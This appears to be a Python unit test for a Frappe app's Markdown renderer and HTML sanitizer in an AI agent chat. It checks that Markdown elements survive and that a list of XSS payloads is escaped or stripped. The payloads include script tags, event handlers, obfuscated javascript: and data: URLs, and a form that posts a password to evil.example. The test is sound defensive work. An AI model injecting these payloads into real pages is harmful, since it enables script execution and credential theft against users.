"""Rendered Markdown keeps Markdown's elements only: nothing can run code, restyle the page or post a form."""

from html.parser import HTMLParser

import frappe

from huf.huf import safe_html
from huf.tests.support.case import HufUnitTestCase

MARKDOWN = """# Title

Some **bold**, *em* and `code`, a [link](https://example.com "Ex") and ![a chart](/files/chart.png).

| a | b |
|:--|--:|
| 1 | 2 |

```python
x = 1 < 2
```

> quoted

1. one
2. two

---
"""
ATTACKS = (
	"<style>body { display: none }</style>",
	'<link rel="stylesheet" href="https://evil.example/x.css">',
	'<form action="https://evil.example/steal" method="post"><input name="password"><button>Go</button></form>',
	'<iframe src="https://evil.example"></iframe>',
	'<object data="x.swf"></object><embed src="x.swf">',
	"<script>alert(1)</script>",
	'<svg onload="alert(1)"><circle r="1"/></svg>',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<base href="https://evil.example/">',
	'<p style="position:fixed;inset:0" onclick="alert(1)" class="fixed">x</p>',
	'<img src="x.png" onerror="alert(1)" style="width:9999px">',
	'<a href="jav&#x09;ascript:alert(1)">a</a> [b](javascript:alert(2)) <a href=" JAVASCRIPT:alert(3)">c</a>',
	'<a href="data:text/html;base64,PHNjcmlwdD4=">d</a> <img src="data:image/svg+xml,<svg onload=alert(1)>">',
	"<!--[if IE]><script>alert(1)</script><![endif]--><p><em>unclosed",
)
MARKDOWN_TAGS = set(
	"h1 h2 h3 h4 h5 h6 p br hr em strong b i del s code pre blockquote ul ol li "
	"table thead tbody tr th td a img sup sub kbd".split()
)
MARKDOWN_ATTRIBUTES = {"href", "src", "alt", "title", "id", "class", "align", "start"}


class Browser(HTMLParser):
	"""The elements, attributes and comments a browser would build from the HTML."""

	def __init__(self, html: str):
		super().__init__()
		self.tags: set[str] = set()
		self.attributes: list[tuple[str, str, str]] = []
		self.comments: list[str] = []
		self.feed(html)
		self.close()

	def handle_starttag(self, tag, attrs):
		self.tags.add(tag)
		self.attributes.extend((tag, name, value or "") for name, value in attrs)

	def handle_comment(self, data):
		self.comments.append(data)


class TestSafeHtml(HufUnitTestCase):
	def test_markdown_elements_are_kept(self):
		html = frappe.get_attr("huf.ai.agent_chat.render_markdown")(MARKDOWN)
		for kept in (
			'<h1 id="title">Title</h1>',
			"<strong>bold</strong>",
			"<em>em</em>",
			"<code>code</code>",
			'<a href="https://example.com" title="Ex">link</a>',
			'<img src="/files/chart.png" alt="a chart" />',
			'<th align="left">a</th>',
			'<td align="right">2</td>',
			'<pre><code class="language-python">x = 1 &lt; 2\n</code></pre>',
			"<blockquote>",
			"<li>two</li>",
			"<hr />",
		):
			self.assertIn(kept, html)
		self.assertNotIn("style=", html)
		self.assertNotIn("screenshot", html)  # Frappe's classes would pick up the page's CSS

	def test_anything_else_is_shown_as_text_or_dropped(self):
		for attack in ATTACKS:
			with self.subTest(attack):
				built = Browser(frappe.get_attr("huf.ai.agent_chat.render_markdown")(attack))
				self.assertLessEqual(built.tags, MARKDOWN_TAGS)
				for _tag, name, value in built.attributes:
					self.assertIn(name, MARKDOWN_ATTRIBUTES)
					self.assertNotRegex(value.replace("\t", ""), "(?i)javascript|data:|fixed")
				self.assertEqual(built.comments, [])
		html = safe_html.clean('<form action="https://evil.example"><button>Go</button></form>')
		self.assertEqual(
			html, '&lt;form action="https://evil.example"&gt;&lt;button&gt;Go&lt;/button&gt;&lt;/form&gt;'
		)
		self.assertEqual(safe_html.clean("<p><em>open"), "<p><em>open</em></p>")
		self.assertEqual(safe_html.clean("<p>a</em></p>"), "<p>a</p>")
		self.assertEqual(
			safe_html.clean('<a href="mailto:a@example.com">m</a>'), '<a href="mailto:a@example.com">m</a>'
		)
